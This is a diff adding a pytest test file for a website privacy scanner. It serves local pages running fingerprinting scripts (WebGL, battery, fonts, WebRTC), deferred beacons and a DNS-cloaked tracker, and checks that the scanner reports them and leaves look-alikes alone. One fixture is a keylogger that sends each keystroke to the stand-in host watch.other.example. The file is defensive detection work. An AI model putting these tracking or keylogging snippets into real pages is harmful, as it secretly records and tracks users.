@@ -1,0 +1,175 @@
+"""What tells a browser apart, what reads along and what hides: each by a page that does that one thing, and pages that do not."""
+
+import asyncio
+import struct
+import threading
+from contextlib import contextmanager
+from datetime import UTC, datetime
+from socket import AF_INET, SOCK_DGRAM, socket
+
+import pytest
+
+from browser.sites import bed
+from holdtrue.website.scan.engine.observations import Kind, State
+from holdtrue.website.scan.engine.run import Options, scan
+from holdtrue.website.scan.faults import Fault
+from holdtrue.website.scan.rules import judge
+
+TRACKER = "watch.other.example"
+FORM = "<form><label>Remark <input type='text' name='remark'></label></form>"
+FONTS = """const line = document.createElement("div"); document.body.append(line);
+for (let i = 0; i < 40; i++) { const one = document.createElement("span"); one.textContent = SAID; one.style.fontFamily = `'Font ${i}', monospace`; line.append(one); one.offsetWidth; }"""
+LATE = "fetchLater('http://watch.other.example/later', { method: 'POST', body: 'x', activateAfter: 60000 });"
+SCRIPTS = {
+    "webgl": """const pen = document.createElement("canvas").getContext("webgl"); const info = pen.getExtension("WEBGL_debug_renderer_info");
+    pen.getParameter(info.UNMASKED_VENDOR_WEBGL); pen.getParameter(info.UNMASKED_RENDERER_WEBGL);""",
+    "drawing": """const pen = document.createElement("canvas").getContext("webgl"); pen.getParameter(pen.MAX_TEXTURE_SIZE); pen.getParameter(pen.VERSION); pen.getExtension("WEBGL_debug_renderer_info");""",
+    "battery": "navigator.getBattery().then((one) => [one.level, one.charging, one.chargingTime, one.dischargingTime]);",
+    "saving": "navigator.getBattery().then((one) => { if (!one.charging && one.level < .2) document.title = 'low'; });",
+    "webrtc": """const line = new RTCPeerConnection({ iceServers: [{ urls: "stun:stun.other.example:3478" }] }); line.createDataChannel("x");
+    line.createOffer().then((offer) => line.setLocalDescription(offer));""",
+    "calling": """const [here, there] = [new RTCPeerConnection(), new RTCPeerConnection()]; here.createDataChannel("x");
+    here.createOffer().then(async (offer) => { await here.setLocalDescription(offer); await there.setRemoteDescription(offer);
+      const answer = await there.createAnswer(); await there.setLocalDescription(answer); await here.setRemoteDescription(answer); });""",
+    "fonts": f"const SAID = 'mmMwWLliI0O&1';{FONTS}",
+    "picker": FONTS.replace("SAID", "`Font ${i}`"),
+    "later": LATE,
+    "letters": f"addEventListener('keydown', (event) => navigator.sendBeacon('http://{TRACKER}/key', JSON.stringify({{ k: event.key, at: Date.now() }})));",
+    "shortcuts": f"addEventListener('keydown', (event) => {{ if (event.key === 'Shift') navigator.sendBeacon('http://{TRACKER}/key', 'shift'); }});",
+    "frame": """const gone = document.createElement("iframe"); gone.src = "http://gone.localhost/frame"; document.body.append(gone);
+    addEventListener("message", () => gone.remove());""",
+}
+for name, text in SCRIPTS.items():
+    bed.page(f"{name}.localhost")(lambda _: bed.document(f"<h1>Page</h1>{FORM}<script src='/own.js'></script>"))
+    bed.page(f"{name}.localhost", "/own.js")(lambda _, text=text: bed.Answer(text, kind="text/javascript"))
+bed.page(TRACKER, "*")(lambda _: bed.Answer("", status=204))
+
+LEFT = """<script>indexedDB.open("gone_base").onsuccess = (one) => { one.target.result.close();
+(window.caches ? caches.open("gone_cache") : Promise.resolve()).then(() => parent.postMessage("done", "*")); };</script>"""
+bed.page("gone.localhost", "/frame")(lambda _: bed.document(LEFT))
+bed.page("stats.shop.example", "*")(
+    lambda _: bed.Answer("document.cookie = '_st=1; path=/; max-age=90000'", kind="text/javascript")
+)
+bed.page("shop.example")(lambda _: bed.document("<h1>Shop</h1><script src='http://stats.shop.example/s.js'></script>"))
+
+
+@pytest.fixture(scope="module")
+def look():
+    with bed.serving() as port:
+
+        def scanned(url, **more):
+            rules = (f"MAP * 127.0.0.1:{port}",)
+            states = frozenset({State.NO_CHOICE})
+            return asyncio.run(
+                scan(Options(url=url, clock=lambda: datetime.now(UTC), pages=1, host_rules=rules, states=states, **more))
+            )
+
+        yield scanned
+
+
+def told(sighting, kind):
+    return {(one.name, one.domain, one.set_by) for one in sighting.observations if one.kind is kind}
+
+
+@pytest.mark.parametrize("sort", ["webgl", "battery", "webrtc", "fonts"])
+def test_this_way_of_telling_browsers_apart_is_told_with_its_script(look, sort):
+    host = f"{sort}.localhost"
+
+    assert told(look(f"http://{host}/"), Kind.FINGERPRINT) == {(sort, host, f"http://{host}/own.js")}
+
+
+@pytest.mark.parametrize("name", ["drawing", "saving", "calling", "picker"])
+def test_what_only_resembles_it_is_let_be(look, name):
+    assert told(look(f"http://{name}.localhost/"), Kind.FINGERPRINT) == set()
+
+
+def test_the_server_that_tells_a_page_its_address_is_told_as_a_recipient(look):
+    (one,) = [one for one in look("http://webrtc.localhost/").observations if one.kind is Kind.REQUEST]
+
+    assert (one.domain, one.via, one.set_by) == ("stun.other.example", "webrtc", "http://webrtc.localhost/own.js")
+
+
+def test_what_is_to_be_sent_once_the_page_is_left_is_seen_while_it_stands(look):
+    assert told(look("http://later.localhost/"), Kind.BEACON) == {
+        (f"{TRACKER}/later", TRACKER, "http://later.localhost/own.js")
+    }
+
+
+def test_a_script_that_sends_each_letter_by_itself_reads_along(look):
+    sighting = look("http://letters.localhost/")
+
+    (one,) = [one for one in sighting.observations if one.kind is Kind.KEY_LOGGING]
+    assert (one.domain, one.set_by, one.via) == (TRACKER, "http://letters.localhost/own.js", "letter by letter")
+    assert Fault.KEY_LOGGING in {finding.fault for finding in judge(sighting, (), has_policy=True)}
+
+
+def test_a_script_that_knows_one_key_reads_nothing(look):
+    assert told(look("http://shortcuts.localhost/"), Kind.KEY_LOGGING) == set()
+
+
+def test_the_database_and_the_cache_of_a_frame_that_is_gone_are_known_and_not_taken_for_gone(look):
+    stored = {
+        (one.kind, one.name, one.domain, one.deleted)
+        for one in look("http://frame.localhost/").observations
+        if one.kind.is_stored
+    }
+
+    assert stored == {
+        (Kind.INDEXED_DB, "gone_base", "gone.localhost", False),
+        (Kind.CACHE_STORAGE, "gone_cache", "gone.localhost", False),
+    }
+
+
+@contextmanager
+def resolver(aliases):
+    """A DNS on loopback that knows these aliases and nothing else (RFC 1035)."""
+    with socket(AF_INET, SOCK_DGRAM) as own:
+        own.bind(("127.0.0.1", 0))
+        own.settimeout(0.1)
+        ended = threading.Event()
+
+        def serve():
+            while not ended.is_set():
+                try:
+                    asked, whom = own.recvfrom(512)
+                except TimeoutError:
+                    continue
+                end = asked.index(b"\0", 12)
+                name = b".".join(_labels(asked[12:end])).decode()
+                target = b"".join(bytes([len(one)]) + one.encode() for one in aliases.get(name, "").split(".") if one)
+                answer = b"\xc0\x0c" + struct.pack(">HHIH", 5, 1, 60, len(target) + 1) + target + b"\0" if target else b""
+                head = asked[:2] + struct.pack(">HHHHH", 0x8180, 1, bool(answer), 0, 0)
+                own.sendto(head + asked[12 : end + 5] + answer, whom)
+
+        thread = threading.Thread(target=serve)
+        thread.start()
+        try:
+            yield f"127.0.0.1:{own.getsockname()[1]}"
+        finally:
+            ended.set()
+            thread.join()
+
+
+def _labels(raw):
+    while raw:
+        yield raw[1 : raw[0] + 1]
+        raw = raw[raw[0] + 1 :]
+
+
+def test_a_tracker_behind_the_sites_own_name_is_found_by_asking_the_dns(look):
+    with resolver({"stats.shop.example": "shop.collect.other.example"}) as dns:
+        sighting = look("http://shop.example/", dns=dns)
+
+    assert {(one.domain, one.alias_of) for one in sighting.observations if one.alias_of} == {
+        ("stats.shop.example", "shop.collect.other.example")
+    }
+    (finding,) = [one for one in judge(sighting, (), has_policy=True) if one.fault is Fault.CLOAKED]
+    assert finding.subject == "stats.shop.example"
+
+
+def test_a_name_that_is_no_alias_is_the_sites_own(look):
+    with resolver({}) as dns:
+        sighting = look("http://shop.example/", dns=dns)
+
+    assert not any(one.alias_of for one in sighting.observations)
+    assert Fault.CLOAKED not in {one.fault for one in judge(sighting, (), has_policy=True)}
